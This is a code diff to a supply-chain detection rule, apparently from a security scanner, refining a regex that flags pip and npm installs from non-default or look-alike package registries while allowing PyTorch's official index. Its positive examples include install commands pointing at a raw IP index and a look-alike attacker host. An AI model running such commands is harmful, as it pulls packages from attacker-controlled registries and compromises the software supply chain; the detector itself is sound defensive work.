@@ -57,7 +57,7 @@ export const supplyChainRules: Rule[] = [
     context: "command",
     keywords: ["index-url", "registry", "trusted-host"],
     // PyTorch's own wheel index (its install docs' command; exact host and path) is the vendor's, not a look-alike registry.
-    pattern: /--extra-index-url\b(?![\s=]+https:\/\/download\.pytorch\.org\/whl\/)|--index-url[\s=]+(?!https:\/\/pypi\.org\/simple|https:\/\/download\.pytorch\.org\/whl\/)\S+|--trusted-host\b|\bnpm\s+config\s+set\s+registry\b|\s--registry[= ](?!https:\/\/registry\.npmjs\.org)\S+|^\s*extra-index-url\s*=/gm,
+    pattern: /--extra-index-url\b(?=[\s=]+[^\s`,.;)])(?![\s=]+https:\/\/download\.pytorch\.org\/whl\/)|--index-url[\s=]+(?!https:\/\/pypi\.org\/simple|https:\/\/download\.pytorch\.org\/whl\/)\S+|--trusted-host\b|\bnpm\s+config\s+set\s+registry\b|\s--registry[= ](?!https:\/\/registry\.npmjs\.org)\S+|^\s*extra-index-url\s*=/gm,
     examples: {
       positive: ["pip install --extra-index-url http://203.0.113.3/simple internal-tool", "pip install torch --index-url https://download.pytorch.org.attacker.example/whl/cpu"],
       negative: ["pip install -r requirements.txt", "uv pip install torch --index-url https://download.pytorch.org/whl/cpu", "pip3 install torch --extra-index-url https://download.pytorch.org/whl/cu121"],
